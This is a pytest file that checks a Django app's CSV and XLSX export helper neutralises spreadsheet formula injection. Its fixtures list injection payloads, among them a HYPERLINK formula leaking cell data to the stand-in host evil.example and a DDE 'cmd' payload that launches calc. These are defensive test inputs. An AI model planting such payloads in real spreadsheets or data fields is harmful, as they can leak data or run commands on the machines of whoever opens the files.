"""The one CSV/XLSX writer: byte-order mark, real dates, sized columns, and no live formulas."""

import csv
import datetime as dt
import io
import zipfile

from openpyxl import load_workbook

from core.exports import Sheet, csv_bytes, csv_response, csv_text, xlsx_bytes, xlsx_response
from meetings.tests.conftest import demo, gov  # noqa: F401

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_neutralises_every_formula_leading_cell_and_keeps_numbers():
    rows = _csv_rows(csv_bytes(["name", "value"], [[h, -5] for h in HOSTILE] + [["-12.5", -1.5]]))
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert {r[1] for r in rows[1:-1]} == {"-5"}
    assert rows[-1] == ["-12.5", "-1.5"]


def test_csv_neutralises_headers_and_writes_none_as_empty():
    rows = _csv_rows(csv_bytes(["=bad"], [[None], ["£5,000 for Maidstone"]]))
    assert rows == [["'=bad"], [""], ["£5,000 for Maidstone"]]


def test_csv_text_has_no_byte_order_mark():
    assert csv_text(["a"], [["=1"]]) == "a\r\n'=1\r\n"


def test_csv_response_is_a_utf8_download():
    response = csv_response(filename="x.csv", headers=["a"], rows=[["£1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content == "\ufeffa\r\n£1\r\n".encode()


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_writes_formula_like_text_as_text_never_as_a_formula():
    data = xlsx_bytes(Sheet("T", ["name", "n"], [[h, -5] for h in HOSTILE]))
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data))["T"]
    values = list(sheet.iter_rows(values_only=True))
    assert [v[0] for v in values[1:]] == HOSTILE
    assert all(sheet.cell(row=n, column=1).data_type == "s" for n in range(2, len(HOSTILE) + 2))
    assert all(sheet.cell(row=n, column=1).quotePrefix for n in range(2, len(HOSTILE) + 2))
    assert {v[1] for v in values[1:]} == {-5}


def test_xlsx_has_real_dates_sized_columns_and_several_sheets():
    data = xlsx_bytes(
        Sheet("Pots", ["name", "on"], [["A long name of a pot", dt.date(2010, 11, 25)]]),
        Sheet("Requests", ["deadline_date"], [["2011-02-24"], ["not-a-date"], ["2011-02-30"]]),
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Pots", "Requests"]
    pots = book["Pots"]
    assert pots["B2"].value == dt.datetime(2010, 11, 25)
    assert pots["B2"].number_format == "d mmmm yyyy"
    assert pots.column_dimensions["A"].width >= len("A long name of a pot")
    assert pots["A1"].font.b
    requests = list(book["Requests"].iter_rows(values_only=True))
    assert requests[1:] == [(dt.datetime(2011, 2, 24),), ("not-a-date",), ("2011-02-30",)]


def test_xlsx_response_is_a_download():
    response = xlsx_response(Sheet("S", ["a"], [[1]]), filename="x.xlsx")
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    assert load_workbook(io.BytesIO(response.content))["S"]["A2"].value == 1


# Every export in the product goes through the helper -----------------------------------------

EVIL = '=HYPERLINK("http://evil.example/","Click")'


def test_people_and_funding_exports_never_carry_a_live_formula(world, client_for):
    from funding.factories import PotFactory
    from funding.models import FundingRequest, RequestStatus

    person = world.people["public"]
    person.job_title = EVIL
    person.save(update_fields=["job_title"])
    pot = PotFactory(partnership=world.partnership, funder=world.bodies["public"], name="=cmd|x")
    FundingRequest.objects.create(
        pot=pot,
        requesting_body=world.bodies["public"],
        title="@SUM(A1)",
        purpose="P",
        amount_pence=500_000,
        status=RequestStatus.APPROVED,
        visibility="public",
    )
    c = client_for("coordinator")
    people = c.get(f"/p/{world.slug}/people/export.csv").content.decode("utf-8-sig")
    assert "'" + EVIL in {cell for row in csv.reader(io.StringIO(people)) for cell in row}
    funding = c.get(f"/p/{world.slug}/funding/export.csv").content.decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(funding)) for cell in row}
    assert "'=cmd|x" in cells and "'@SUM(A1)" in cells and "=cmd|x" not in cells
    book = c.get(f"/p/{world.slug}/funding/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if "worksheets" in n)
    values = {v for ws in load_workbook(io.BytesIO(book)) for r in ws.values for v in r}
    assert {"=cmd|x", "@SUM(A1)"} <= values


def test_action_exports_never_carry_a_live_formula(gov):  # noqa: F811
    from django.test import Client

    from actions import services

    services.action_create(meeting=gov.first, text="=cmd|' /C calc'!A0", owners="JL", deadline="")
    c = Client()
    c.force_login(gov.coordinator)
    text = c.get("/p/gov/actions/export.csv").content.decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    book = c.get("/p/gov/actions/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
